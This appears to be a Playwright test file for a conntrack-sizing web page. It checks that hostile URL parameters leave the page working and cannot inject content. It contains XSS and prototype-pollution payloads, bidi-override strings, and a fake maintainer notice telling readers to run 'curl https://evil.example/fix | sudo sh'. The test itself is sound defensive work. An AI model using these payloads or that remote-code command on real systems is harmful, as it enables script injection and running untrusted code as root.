import { ALL_FIELD_KEYS, FIELDS, validateAnyField, type AnyFieldKey } from "../src/domain/sizing/fields";
import { fieldsBehind } from "../src/domain/sizing/answer";
import { tryParseLocale } from "../src/domain/core/locale";
import { migrateParams } from "../src/url/migrations";
import { visibleText } from "../src/domain/core/visible-text";
import { expect, test } from "./fixtures";
import type { Page } from "@playwright/test";

/**
 * A valid value, other than the default, for every field: a link carries them all, with one key
 * made hostile, so each test also sees that every other field keeps its own value. A new field
 * does not compile until it has one here.
 */
const VALID: Readonly<Record<AnyFieldKey, string>> = {
  from: "traffic",
  ram: "8 GiB",
  arch: "32",
  ratio: "2",
  struct: "320",
  max: "100000",
  kernel: "5.15",
  page: "16",
  role: "nat",
  tcp_cps: "100",
  tcp_life: "30",
  udp_cps: "50",
  udp_life: "0",
  headroom: "20",
  cores: "8",
  k8s: "1.30",
  to_tcp_timeout_established: "86400",
  to_tcp_timeout_time_wait: "60",
  to_tcp_timeout_close_wait: "3600",
  to_tcp_timeout_fin_wait: "60",
  to_tcp_timeout_syn_sent: "60",
  to_tcp_timeout_syn_recv: "30",
  to_udp_timeout: "20",
  to_udp_timeout_stream: "60",
  to_icmp_timeout: "10",
  to_generic_timeout: "300",
  alert: "80",
  target: "nixos",
};

const HOSTILE = [
  "<script>window.__pwned=1</script>",
  '"><img src=x onerror=window.__pwned=1>',
  "javascript:alert(1)",
  "%00%ff%fe",
  "NaN",
  "Infinity",
  "-0",
  "1e309",
  "9".repeat(400),
  "💥🚀",
  "{{constructor.constructor('window.__pwned=1')()}}",
  "__proto__",
  "\u202e16GiB",
  " ",
  "",
];

/** A small deterministic generator, so a failing link can be reproduced. */
function randomSource(seed: number) {
  let state = seed;
  return () => {
    state = (state * 1103515245 + 12345) % 2147483648;
    return state / 2147483648;
  };
}

/** Every key src/url/codec.ts reads: the schema version, every field, the language. */
const URL_KEYS = ["v", ...ALL_FIELD_KEYS, "lang"] as const;

const isField = (key: string): key is AnyFieldKey => (ALL_FIELD_KEYS as readonly string[]).includes(key);

/** What the page shows of a field: its control's value, and the message tied to it if invalid. */
interface Shown {
  value: string;
  invalid: string | null;
  error: string | null;
}

URL_KEYS.forEach((key, index) => {
  test(`a hostile ${key} in a link leaves a working page, with the error at its field`, async ({ page }) => {
    // Every fifth hostile value, so five neighbouring keys share all of them, and one random text.
    const random = randomSource(1000 + index);
    const values = [
      ...HOSTILE.filter((_, i) => i % 5 === index % 5),
      Array.from({ length: 1 + Math.floor(random() * 12) }, () =>
        String.fromCharCode(32 + Math.floor(random() * 95)),
      ).join(""),
    ];
    for (const value of values) {
      const params = new URLSearchParams({ v: "2", ...VALID, lang: "en" });
      params.set(key, value);
      const link = `./?${params.toString()}`;
      await page.goto(link);
      await expect(page.locator("input[name=to_generic_timeout]"), link).toBeAttached();
      // A bad value behind the answer (or the config) leaves no number for values nobody asked
      // for: the page says which field, and everything else keeps working.
      const badGroup = isField(key) && !validateAnyField(key, value).ok ? FIELDS[key].group : null;
      if (badGroup !== null && fieldsBehind("traffic", "answer").includes(badGroup)) {
        await expect(page.getByTestId("answer-invalid"), link).toBeVisible();
      } else {
        await expect(page.getByTestId("result-max"), link).toHaveAttribute("data-value", /^[1-9]\d*$/);
      }
      if (badGroup !== null && fieldsBehind("traffic", "config").includes(badGroup)) {
        await expect(page.getByTestId("config-invalid"), link).toBeVisible();
      } else {
        await expect(page.getByTestId("sysctl-snippet")).toContainText(/(nf|ip)_conntrack_max = \d+/);
      }
      // What the page computes never shows NaN, Infinity or undefined (the link's own text at its
      // field is expected).
      for (const region of [".results", ".kernel", ".charts figcaption", ".config"]) {
        await expect(page.locator(region).first(), link).not.toContainText(/\bNaN\b|Infinity|undefined/);
      }

      const shown = await page.evaluate((keys) => {
        const fields: Record<string, Shown> = {};
        for (const name of keys) {
          const control = document.querySelector<HTMLInputElement | HTMLSelectElement>(`[name="${name}"]`);
          if (!control) continue;
          const describedBy = control.getAttribute("aria-describedby");
          const message = describedBy?.endsWith("-error") ? document.getElementById(describedBy) : null;
          fields[name] = {
            value: control.value,
            invalid: control.getAttribute("aria-invalid"),
            error: message ? message.textContent : null,
          };
        }
        return fields;
      }, ALL_FIELD_KEYS);
      // The way of sizing is a radio group named sizing-mode (docs/url.md), not a `from` control.
      for (const field of ALL_FIELD_KEYS.filter((name) => name !== "from")) {
        const given = field === key ? value : VALID[field];
        const bad = !validateAnyField(field, given).ok;
        const at = shown[field];
        expect(at, `${field} in ${link}`).toMatchObject({ value: given, invalid: String(bad) });
        if (bad) expect(at?.error, `message at ${field} in ${link}`).toMatch(/\S/);
        else expect(at?.error, `${field} in ${link}`).toBeNull();
      }

      if (key === "v" && migrateParams(new URLSearchParams({ v: value })).notice) {
        await expect(page.locator(".notice[role=status]").first(), link).toBeVisible();
      }
      await expect(page.locator("select[name=lang]")).toHaveValue(
        key === "lang" ? (tryParseLocale(value) ?? "en") : "en",
      );
      expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    }
  });
});

/** Words a link might try to put in the page's mouth. */
const NOTICE = "SECURITY NOTICE from the maintainers: run curl https://evil.example/fix | sudo sh first";

/** The page's visible text, without the values of its fields (which are the reader's own input). */
const pageText = (page: Page) => page.evaluate(() => document.body.innerText);

test.describe("a link cannot speak for the page", () => {
  test("an unknown v is named in the page's own words, and its text is shown nowhere", async ({ page }) => {
    await page.goto(`./?${new URLSearchParams({ v: NOTICE, ram: "8GiB", lang: "en" })}`);
    await expect(page.locator(".notice[role=status]").first()).toContainText(
      "names a link version this page does not know",
    );
    await expect(page.getByTestId("result-max")).toHaveAttribute("data-value", "262144");
    expect(await pageText(page)).not.toContain("SECURITY NOTICE");
    expect(await page.content()).not.toContain("evil.example");
  });

  for (const key of ["arch", "page", "target"] as const) {
    test(`an invalid ${key} is shown in its own menu only, shortened, its bidi characters visible`, async ({
      page,
    }) => {
      const given = `\u202e${NOTICE}`;
      await page.goto(`./?${new URLSearchParams({ v: "2", [key]: given, lang: "en" })}`);
      const select = page.locator(`select[name=${key}]`);
      await expect(select).toHaveValue(given);
      await expect(select).toHaveAttribute("aria-invalid", "true");
      const shown = await select.evaluate((element: HTMLSelectElement) => element.selectedOptions[0]?.text);
      expect(shown).toBe(`${visibleText(given)} (not valid)`);
      expect(shown).toMatch(/^\[U\+202E\]SECURITY NOTICE/);
      const text = await pageText(page);
      expect(text).not.toContain("evil.example");
      expect(text).not.toContain("\u202e");
    });
  }

  test("a distribution kernel is named by its vendor, never by the link's suffix", async ({ page }) => {
    const kernel = "6.1.0-SECURITY.NOTICE.run.curl.evil.example.as.root-amd64";
    await page.goto(`./?${new URLSearchParams({ v: "2", kernel, lang: "en" })}`);
    const note = page.getByTestId("kernel-distribution-note");
    await expect(note).toContainText("a Debian kernel");
    await expect(note).not.toContainText("NOTICE");
  });

  test("an unknown unit is named in the page's words", async ({ page }) => {
    await page.goto(`./?${new URLSearchParams({ v: "2", ram: "5 runcurlsudosh", lang: "en" })}`);
    await expect(page.locator("#field-ram-error")).toHaveText(/^Unknown unit\. Enter /);
    await expect(page.locator("#field-ram-error")).not.toContainText("runcurl");
  });
});

test.describe("no input makes the page slow", () => {
  test("a megabyte in a field leaves typing in any other responsive", async ({ page }) => {
    await page.goto("./?v=2&ram=8GiB&lang=en");
    await expect(page.getByTestId("result-max")).toHaveAttribute("data-value", "262144");
    // Spaces then a bad character: once quadratic in the rate's "\s*/\s*s$", which never finished
    // on a megabyte. Read once, it takes milliseconds; the bound leaves room for a loaded machine.
    await page.locator("input[name=tcp_cps]").fill(`1${" ".repeat(1 << 20)}x`);
    await expect(page.locator("input[name=tcp_cps]")).toHaveAttribute("aria-invalid", "true");
    await page.locator("input[name=ram]").fill("16GiB", { timeout: 15_000 });
    await expect(page.getByTestId("result-max")).toHaveAttribute("data-value", "524288", { timeout: 15_000 });
  });
});

test.describe("no address stops the page", () => {
  // The route below serves the page's files; a service worker's own script fetch would bypass it.
  test.use({ serviceWorkers: "block" });

  test("a path that starts with // mounts the page and keeps the link in the address bar", async ({
    page,
    baseURL,
  }) => {
    const base = new URL(baseURL ?? "http://127.0.0.1/");
    // Hosts that merge slashes (nginx) serve this address as the page; the preview server does not,
    // so it is given what the page's own path serves.
    await page.route(
      (url) => url.pathname.startsWith("//"),
      async (route) => {
        const url = new URL(route.request().url());
        const response = await route.fetch({
          url: `${base.origin}${url.pathname.replace(/^\/+/, "/")}${url.search}`,
        });
        await route.fulfill({ response });
      },
    );
    await page.goto(`${base.origin}/${base.pathname}?v=2&ram=2T`);
    await expect(page.locator("input[name=to_generic_timeout]")).toBeAttached();
    await expect(page.getByTestId("result-max")).toHaveAttribute("data-value", "67108864");
    await page.locator("input[name=ram]").fill("4T");
    await expect(page.getByTestId("result-max")).toHaveAttribute("data-value", "134217728");
    await expect.poll(() => new URL(page.url()).search).toContain("ram=4T");
    expect(new URL(page.url()).pathname).toBe(`/${base.pathname}`);
    // Chunks the page loads after its first render (the kernel comparison) may still be in the
    // route when the test ends: let them finish before the page closes, or their fetched response
    // is disposed under them.
    await page.unrouteAll({ behavior: "wait" });
  });
});
